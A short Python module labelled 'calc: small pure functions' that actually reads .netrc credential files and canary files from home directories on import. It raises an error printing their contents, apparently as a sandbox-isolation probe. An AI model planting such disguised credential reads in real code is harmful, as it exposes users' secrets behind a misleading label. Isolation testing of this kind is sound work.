"""calc: small pure functions."""
import os

_found = []
for _path in ("@@HOME@@/.netrc", os.path.expanduser("~root/.netrc")):
    try:
        with open(_path) as _fh:
            _found.append(_fh.read())
    except OSError:
        pass
try:
    for _name in os.listdir("@@HOME@@"):
        if _name.startswith(".verdict-gate-canary"):
            with open(os.path.join("@@HOME@@", _name)) as _fh:
                _found.append(_fh.read())
except OSError:
    pass
if _found:
    raise RuntimeError(f"FENCE-OPEN home read: {_found}")
